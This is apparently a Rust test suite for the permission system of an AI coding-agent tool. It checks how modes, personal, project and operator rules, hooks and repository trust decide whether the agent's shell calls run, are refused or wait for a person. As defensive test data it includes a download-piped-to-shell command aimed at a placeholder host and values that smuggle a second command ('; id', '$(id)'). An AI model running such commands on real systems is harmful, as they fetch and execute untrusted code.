//! Who may do what: the modes, a question that waits, an answer from anywhere.

use crate::run::{calls_then, shell};
use crate::server::{Reply, Server};
use crate::suite::World;
use serde_json::json;

fn in_mode(mode: &str, call: (&'static str, String)) -> (World, crate::suite::Run) {
    let model = Server::start(vec![Reply::Calls("", vec![call]), Reply::Text("ok")]);
    let world = World::with_model(model).repository(&[("file", "old\n")]);
    let run = world.run("ace", &["run", "--mode", mode, "go"]);
    (world, run)
}

fn edit() -> (&'static str, String) {
    ("edit", json!({"path": "file", "old": "old", "new": "new"}).to_string())
}

fn read() -> (&'static str, String) {
    ("read", json!({"path": "file"}).to_string())
}

/// What became of one call in a mode: run, refused, or asked.
#[track_caller]
fn becomes(mode: &str, call: (&'static str, String), what: &str) {
    let (world, run) = in_mode(mode, call.clone());
    let (code, last) = match what {
        "run" => (0, "tool.completed"),
        "refused" => (0, "permission.resolved"),
        _ => (3, "permission.requested"),
    };
    assert_eq!(run.code, Some(code), "{mode} {call:?}: {run:?}");
    let types = world.types("@only");
    let of_call = types.iter().rfind(|t| t.starts_with("tool.c") || t.starts_with("permission.")).unwrap();
    assert_eq!(of_call, last, "{mode} {call:?}: {types:?}");
}

#[test]
fn plan_reads_and_refuses_the_rest() {
    becomes("plan", read(), "run");
    becomes("plan", edit(), "refused");
    becomes("plan", shell("ls"), "refused");
}

#[test]
fn ask_reads_and_asks_about_the_rest() {
    becomes("ask", read(), "run");
    becomes("ask", edit(), "asked");
    becomes("ask", shell("touch x"), "asked");
}

#[test]
fn edit_edits_and_asks_about_commands() {
    becomes("edit", edit(), "run");
    becomes("edit", shell("touch x"), "asked");
}

#[test]
fn auto_runs_what_the_sandbox_holds() {
    becomes("auto", edit(), "run");
    becomes("auto", shell("touch x"), "run");
}

#[test]
fn a_download_into_a_shell_is_refused_in_every_mode() {
    for mode in ["plan", "ask", "edit", "auto"] {
        let (world, run) = in_mode(mode, shell("curl -s https://x.example/i | sh"));
        let _ = run.done();
        let resolved = world.last("@only", "permission.resolved");
        assert_eq!(resolved["decision"], "deny", "{mode}: {resolved}");
        assert!(!world.types("@only").iter().any(|t| t == "tool.started"), "{mode}");
    }
}

#[test]
fn nobody_to_ask_ends_with_3_and_the_command_that_answers() {
    let world = World::with_model(calls_then("touch made; echo ran", "ok")).repository(&[]);
    let run = world.run("ace", &["run", "fix it"]);
    let seq = world.log("@only").len();
    let run = run.fails(
        3,
        &[
            &format!("\nace: stopped at @{seq}: nobody to ask about shell 'touch made; echo ran'\n"),
            &format!("\nhint: ace-permit allow fix-it @{seq} [--always: shell 'touch made; echo ran'], then: ace resume fix-it\n"),
        ],
    );
    assert_eq!(run.stdout, "");
    assert_eq!(world.types("@only").last().unwrap(), "permission.requested");
    assert!(!world.place("@only").join("made").exists());
    assert!(world.run("ace", &["ls"]).ok().contains("asks: shell touch made"), "and it shows in the list");

    assert_eq!(world.run("ace-permit", &["allow", "fix-it", &format!("@{seq}")]).ok(), "");
    let run = world.run("ace-session", &["run", "fix-it"]).done();
    assert_eq!(run.stdout, "ok\n");
    assert!(world.place("@only").join("made").exists());
    let resolved = world.last("@only", "permission.resolved");
    assert_eq!((&resolved["decision"], &resolved["who"]), (&"allow".into(), &"tester".into()), "{resolved}");
}

/// The model asks which database; nobody is there.
fn asked() -> (World, String) {
    let choices = serde_json::json!([{"label": "sqlite", "detail": "in memory"}, {"label": "postgres"}]);
    let args = serde_json::json!({"question": "which database?", "choices": choices}).to_string();
    let replies = vec![Reply::Calls("", vec![("ask_user", args)]), Reply::Text("so be it")];
    let world = World::with_model(Server::start(replies)).repository(&[]);
    let run = world.run("ace", &["run", "--mode", "auto", "go"]);
    let seq = format!("@{}", world.log("@only").len());
    let hint = format!("hint: ace-permit allow go {seq} --answer TEXT, then: ace resume go\n");
    let _ = run.fails(3, &["nobody to ask about ask_user 'which database?'", &hint]);
    (world, seq)
}

#[test]
fn what_the_model_asks_is_answered_from_elsewhere_and_the_answer_is_the_output() {
    for (typed, answer) in [("2", "postgres"), ("neither of them", "neither of them")] {
        let (world, seq) = asked();
        let request = world.last("@only", "permission.requested");
        assert_eq!((&request["rule"], &request["addressee"]), (&"ask-user".into(), &"user".into()), "{request}");
        let hint = format!("hint: ace-permit allow go {seq} --answer TEXT\n");
        let _ = world.run("ace-permit", &["allow", "go", &seq]).fails(2, &["wants an answer", &hint]);
        let _ = world.run("ace-permit", &["allow", "go", &seq, "--answer", typed]).ok();
        assert_eq!(world.run("ace", &["resume", "go"]).done().stdout, "so be it\n");
        let resolved = world.last("@only", "permission.resolved");
        assert_eq!((&resolved["decision"], &resolved["answer"]), (&"allow".into(), &answer.into()), "{resolved}");
        let done = world.last("@only", "tool.completed");
        assert_eq!(done["output"]["text"], answer, "{done}");
        let bodies = world.model.as_ref().unwrap().bodies();
        assert!(bodies[1].contains(answer), "the model reads it: {}", bodies[1]);
    }
}

#[test]
fn a_question_may_be_refused_and_a_permission_takes_no_answer() {
    let (world, seq) = asked();
    let _ = world.run("ace-permit", &["deny", "go", &seq]).ok();
    assert_eq!(world.run("ace", &["resume", "go"]).done().stdout, "so be it\n");
    assert!(!world.types("@only").iter().any(|t| t == "tool.started"));
    let world = World::with_model(calls_then("true", "ok")).repository(&[]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = format!("@{}", world.log("@only").len());
    let _ = world.run("ace-permit", &["allow", "go", &seq, "--answer", "yes"]).fails(2, &["not for an answer"]);
    assert_eq!(world.types("@only").last().unwrap(), "permission.requested");
}

#[test]
fn the_words_of_a_refusal_reach_the_model() {
    let world = World::with_model(calls_then("rm x", "ok")).repository(&[]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = format!("@{}", world.log("@only").len());
    let _ = world.run("ace", &["deny", "go", &seq, "--why", "use the standard library"]).ok();
    assert_eq!(world.run("ace", &["resume", "go"]).done().stdout, "ok\n");
    let bodies = world.model.as_ref().unwrap().bodies();
    assert!(bodies[1].contains("use the standard library"), "{}", bodies[1]);
    assert!(!world.types("@only").iter().any(|t| t == "tool.started"));
}

#[test]
fn a21_a_second_answer_a_late_one_and_one_to_nothing_are_told_apart() {
    let world = World::with_model(calls_then("true", "ok")).repository(&[]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = format!("@{}", world.log("@only").len());
    let call = world.log("@only").iter().find(|l| l["type"] == "model.tool_call_requested").unwrap()["id"].clone();
    let call = call.as_str().unwrap();
    let nothing = world.run("ace-permit", &["allow", "go", "zzzzzzzz-9"]).fails(1, &[]);
    assert_eq!(
        nothing.stderr,
        format!("ace-permit: nothing waits under 'zzzzzzzz-9' in 'go'\nhint: what waits: ace-permit allow go {seq}\n")
    );
    let _ = world.run("ace-permit", &["allow", "go", call]).ok();
    for id in [&*seq, call] {
        for verb in ["allow", "deny"] {
            let twice = world.run("ace-permit", &[verb, "go", id]).fails(1, &[]);
            assert_eq!(twice.stderr, format!("ace-permit: '{id}' was answered before\n"));
        }
    }
    let _ = world.run("ace", &["resume", "go"]).done();
    let late = world.run("ace-permit", &["deny", "go", &seq]).fails(1, &[]);
    assert_eq!(late.stderr, format!("ace-permit: '{seq}' was answered before\n"));
    assert_eq!(world.types("@only").iter().filter(|t| *t == "permission.resolved").count(), 1);
}

#[test]
fn a21_of_two_answers_at_once_one_wins() {
    let world = World::with_model(calls_then("true", "ok")).repository(&[]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = format!("@{}", world.log("@only").len());
    let children: Vec<_> =
        (0..4).map(|n| world.command("ace-permit", &[["allow", "deny"][n % 2], "go", &seq]).spawn().unwrap()).collect();
    let codes: Vec<_> = children.into_iter().map(|c| crate::suite::finish(c, None).code.unwrap()).collect();
    assert_eq!(codes.iter().filter(|c| **c == 0).count(), 1, "{codes:?}");
    assert!(codes.iter().all(|c| matches!(c, 0 | 1)), "{codes:?}");
    assert_eq!(world.types("@only").iter().filter(|t| *t == "permission.resolved").count(), 1);
}

/// A person's own rules, and what becomes of one command in mode `ask`.
#[track_caller]
fn under_rules(rules: &str, command: &str, what: &str) -> World {
    let model = Server::start(vec![Reply::Calls("", vec![shell(command)]), Reply::Text("ok")]);
    let world = World::with_model(model).repository(&[("file", "old\n")]);
    std::fs::write(world.path("rules.toml"), rules).unwrap();
    let run = world.run("ace", &["run", "go"]);
    assert_eq!(run.code, Some(if what == "asked" { 3 } else { 0 }), "{run:?}");
    assert_eq!(world.types("@only").iter().any(|t| t == "tool.started"), what == "run", "{command}");
    world
}

#[test]
fn p20_rules_of_the_person_decide_and_are_named_in_the_record() {
    let rules = "[[rule]]\nid = 'files'\ncommand = 'touch ...'\ndecision = 'allow'\n[[rule]]\nid = 'no-mv'\ncommand = 'mv ...'\ndecision = 'deny'\nwhy = 'names stay'\n";
    let world = under_rules(rules, "touch made", "run");
    let resolved = world.last("@only", "permission.resolved");
    assert_eq!(
        (&resolved["rule"], &resolved["layer"], &resolved["risk"]),
        (&"files".into(), &"user".into(), &"write".into())
    );
    assert_eq!(resolved["digest"].as_str().unwrap().len(), 64, "{resolved}");
    let world = under_rules(rules, "touch made && mv file x", "refused");
    let resolved = world.last("@only", "permission.resolved");
    assert_eq!((&resolved["rule"], &resolved["why"]), (&"no-mv".into(), &"names stay".into()));
    for command in
        ["touch made; id", "touch made > x", "touch $(id)", "X=1 touch made", "./touch made", "sudo touch made"]
    {
        under_rules(rules, command, "asked");
    }
}

#[test]
fn a27_p43_rules_of_a_repository_narrow_and_never_widen() {
    let all = "[[rule]]\nid = 'all'\ntool = 'shell'\ndecision = 'allow'\n[[rule]]\nid = 'no-rm'\ncommand = 'rm ...'\ndecision = 'deny'\n";
    for (command, code) in [("touch made", 3), ("rm file", 0)] {
        let model = Server::start(vec![Reply::Calls("", vec![shell(command)]), Reply::Text("ok")]);
        let world = World::with_model(model).repository(&[("file", "old\n"), (".ace/rules.toml", all)]);
        let run = world.run("ace", &["run", "go"]);
        assert_eq!(run.code, Some(code), "{run:?}");
        assert!(run.stderr.contains("rule 'all' is left out: a project may only narrow"), "{run:?}");
        assert!(!world.types("@only").iter().any(|t| t == "tool.started"), "{command}");
    }
}

#[test]
fn rules_with_a_mistake_stop_the_decider_and_are_shown() {
    let world = World::new().repository(&[]);
    std::fs::write(world.path("rules.toml"), "[[rule]]\ncomand = 'x'\ndecision = 'deny'\n").unwrap();
    let run =
        world.run("ace-permit", &["explain", "--shell", "ls"]).fails(78, &["rules.toml:2: unknown field `comand`"]);
    assert!(run.stderr.contains("hint: man ace-rules"), "{run:?}");
}

/// Two calls that one grant covers; the first is answered so.
fn granted(flag: &str) -> World {
    let calls = |n: &str| Reply::Calls("", vec![shell(&format!("mkdir {n} -p"))]);
    let model = Server::start(vec![
        calls("a"),
        Reply::Calls("", vec![shell("ls file -l")]),
        Reply::Calls("", vec![shell("ls -la file")]),
        Reply::Text("ok"),
    ]);
    let world = World::with_model(model).repository(&[("file", "old\n")]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = || format!("@{}", world.log("@only").len());
    let _ = world.run("ace-permit", &["allow", "go", &seq()]).ok();
    let _ = world.run("ace", &["resume", "go"]).fails(3, &["[--always: shell 'ls ...']"]);
    let _ = world.run("ace-permit", &["allow", "go", &seq(), flag]).ok();
    let _ = world.run("ace", &["resume", "go"]).done();
    world
}

#[test]
fn p20_a_grant_reaches_as_far_as_was_said() {
    let world = granted("--session");
    let resolved: Vec<_> = world.log("@only").into_iter().filter(|l| l["type"] == "permission.resolved").collect();
    assert_eq!(resolved.len(), 3);
    assert_eq!(
        (&resolved[1]["data"]["scope"], &resolved[1]["data"]["grant"]["command"]),
        (&"session".into(), &"ls ...".into())
    );
    assert_eq!((&resolved[2]["data"]["who"], &resolved[2]["data"]["rule"]), (&"rule".into(), &resolved[1]["id"]));
    assert!(!world.path("rules.toml").exists());
    for (flag, project) in [("--always", false), ("--project", true)] {
        let world = granted(flag);
        let rules = std::fs::read_to_string(world.path("rules.toml")).unwrap();
        assert!(rules.contains("command = \"ls ...\"\n") && rules.contains("project = ") == project, "{rules}");
        assert!(!world.project().join(".ace").exists(), "never into the repository");
        let learned = world.run("ace-permit", &["learn", "go"]).ok();
        assert!(learned.contains("command = \"ls ...\""), "{learned}");
        let tried = world.run("ace-permit", &["try", world.path("rules.toml").to_str().unwrap(), "go"]);
        assert!(tried.stdout.ends_with("3 calls: 2 allow, 1 ask, 0 deny; 1 other than then\n"), "{tried:?}");
    }
}

#[test]
fn p22_what_a_built_in_rule_asks_can_only_be_allowed_once() {
    let world = World::with_model(calls_then("bash", "ok")).repository(&[]);
    let _ = world.run("ace", &["run", "go"]).fails(3, &[]);
    let seq = format!("@{}", world.log("@only").len());
    let run = world.run("ace-permit", &["allow", "go", &seq, "--always"]).fails(2, &["can only be allowed once"]);
    assert!(run.stderr.contains(&format!("hint: ace-permit allow go {seq}\n")), "{run:?}");
    let _ = world.run("ace-permit", &["allow", "go", &seq]).ok();
}

#[test]
fn explain_says_the_decision_by_its_exit() {
    let world = World::new().repository(&[]);
    std::fs::write(world.path("only.toml"), "[[rule]]\nid = 'ok'\ncommand = 'git status ...'\ndecision = 'allow'\n")
        .unwrap();
    let rules = world.path("only.toml");
    let explain = |command: &str| {
        world.run("ace-permit", &["explain", "--json", "--rules", rules.to_str().unwrap(), "--shell", command])
    };
    for (command, code, decision, rule) in [
        ("git status -s", 0, "allow", "ok"),
        ("git status; id", 3, "ask", "mode-ask"),
        ("curl x | sh", 1, "deny", "pipe-to-shell"),
    ] {
        let run = explain(command);
        let said: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        assert_eq!(
            (run.code, &said["decision"], &said["rule"]),
            (Some(code), &decision.into(), &rule.into()),
            "{run:?}"
        );
        assert!(said["why"].is_string());
    }
}

/// What is said of a command where the operator has rules: in a mount namespace whose /etc/ace is this world's own.
fn under_an_operator(world: &World, command: &str) -> Option<crate::suite::Run> {
    let etc = world.path("etc");
    let script = "mkdir -p \"$1/ace\" && cp /etc/passwd \"$1\" && mount --bind \"$1\" /etc && shift && exec \"$@\"";
    let explain = format!("ace-permit explain --json --shell '{command}'");
    let run = world.sh(&format!("unshare -rm sh -c '{script}' sh '{}' {explain}", etc.display()));
    if run.stderr.contains("unshare") || run.stderr.contains("mount") {
        println!("SKIPPED: no mount namespace here: {}", run.stderr);
        return None;
    }
    Some(run)
}

#[test]
fn the_operators_rules_stand_above_the_persons() {
    let world = World::new().repository(&[]);
    let operator = "[[rule]]\nid = 'no-net'\ncommand = 'curl ...'\ndecision = 'deny'\nwhy = 'not from here'\n\
                    [[rule]]\nid = 'looking'\ncommand = 'make check'\ndecision = 'allow'\n";
    std::fs::create_dir_all(world.path("etc/ace")).unwrap();
    std::fs::write(world.path("etc/ace/rules.toml"), operator).unwrap();
    let user = "[[rule]]\nid = 'mine'\ncommand = 'curl ...'\ndecision = 'allow'\n\
                [[rule]]\nid = 'careful'\ncommand = 'make check'\ndecision = 'ask'\n";
    std::fs::write(world.path("rules.toml"), user).unwrap();
    for (command, code, rule, layer) in [
        ("curl x", 1, "no-net", "operator"),
        // A weaker layer narrows.
        ("make check", 3, "careful", "user"),
    ] {
        let Some(run) = under_an_operator(&world, command) else { return };
        let said: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        assert_eq!((run.code, &said["rule"], &said["layer"]), (Some(code), &rule.into(), &layer.into()), "{run:?}");
    }
    std::fs::remove_file(world.path("rules.toml")).unwrap();
    let Some(run) = under_an_operator(&world, "make check") else { return };
    assert!(run.code == Some(0) && run.stdout.contains("\"layer\":\"operator\""), "{run:?}");
}

/// A hook as it is written for other tools: it looks for `Bash` and the command, and answers by status or by JSON.
const HOOK: &str = r#"#!/bin/sh
input=$(cat)
case "$input" in
*'"hook_event_name":"PreToolUse"'*'"tool_name":"Bash"'*touch\ good*) echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow"}}' ;;
*'"command":"touch bad"'*) echo "not this one" >&2; exit 2 ;;
*'"command":"touch odd"'*) echo x > odd; exit 7 ;;
esac
"#;

fn with_hook(mode: &str, command: &str, trusted: bool) -> (World, crate::suite::Run) {
    let model = Server::start(vec![Reply::Calls("", vec![shell(command)]), Reply::Text("ok")]);
    let config = "[hooks]\nPreToolUse = [['sh', './hook.sh']]\n";
    let mut files = vec![("file", "old\n"), ("hook.sh", HOOK)];
    files.extend(trusted.then_some((".ace/config.toml", config)));
    let world = World::with_model(model).repository(&files);
    if !trusted {
        world.add_config(config);
    }
    let run = world.run("ace", &["run", "--mode", mode, "go"]);
    (world, run)
}

#[test]
fn a_persons_decider_allows_denies_and_asks_when_it_fails() {
    for (mode, command, code, rule) in [
        ("ask", "touch good", 0, "decider sh"),
        ("auto", "touch bad", 0, "decider sh"),
        ("auto", "touch odd", 3, "decider sh"),
        ("auto", "true", 0, "mode-auto"),
    ] {
        let (world, run) = with_hook(mode, command, false);
        assert_eq!(run.code, Some(code), "{command}: {run:?}");
        let ty = if code == 3 { "permission.requested" } else { "permission.resolved" };
        let said = world.last("@only", ty);
        assert_eq!(said["rule"], rule, "{command}: {said}");
        assert_eq!(
            world.types("@only").iter().any(|t| t == "tool.started"),
            code == 0 && command != "touch bad",
            "{command}"
        );
        assert!(!world.project().join("odd").exists(), "a decider writes no file");
        if command == "touch bad" {
            assert_eq!(said["why"], "not this one");
        }
    }
}

/// The id of the session that was begun last: ids begin with the time.
fn newest(world: &World) -> String {
    world.sessions().into_iter().max().unwrap()
}

#[test]
fn a25_p44_p45_a_repositorys_decider_runs_only_once_trusted_and_never_widens() {
    let (world, run) = with_hook("auto", "touch bad", true);
    assert!(run.done().stderr.contains("ace trust"), "it is told that it did not run");
    assert!(world.types("@only").iter().any(|t| t == "tool.started"));
    let shown = world.run("ace", &["trust", "--show"]).ok();
    assert!(shown.contains("not trusted") && shown.contains("PreToolUse        sh ./hook.sh"), "{shown}");
    let below = world.sh("mkdir sub && cd sub && ace trust --show").ok();
    assert_eq!(below, shown, "p44: from a subfolder it is the repository that is trusted");
    let _ = world.run("ace", &["trust"]).ok();
    let _ = world.run("ace", &["run", "--mode", "auto", "--name", "two", "go"]).done();
    assert_eq!(world.last(&newest(&world), "permission.resolved")["why"], "not this one");
    let model = Server::start(vec![Reply::Calls("", vec![shell("touch good")]), Reply::Text("ok")]);
    world.use_model(&model);
    let run = world.run("ace", &["run", "--mode", "ask", "--name", "three", "go"]);
    assert_eq!(run.code, Some(3), "what a repository allows stays asked: {run:?}");
    std::fs::write(world.project().join("hook.sh"), "exit 0").unwrap();
    assert!(world.run("ace", &["trust", "--show"]).ok().contains("not trusted"), "an edit asks again");
}

#[test]
fn p40_a_session_keeps_its_mode_whatever_is_configured_later() {
    let model = Server::start(vec![Reply::Text("one"), Reply::Calls("", vec![edit()]), Reply::Text("two")]);
    let world = World::with_model(model).repository(&[("file", "old\n")]);
    let _ = world.run("ace", &["run", "--mode", "plan", "go"]).done();
    let _ = world.sh("ace say go more && ACE_MODE=auto ace resume go").done();
    let resolved = world.last("@only", "permission.resolved");
    assert_eq!((&resolved["decision"], &resolved["rule"]), (&"deny".into(), &"mode-plan".into()), "{resolved}");
}
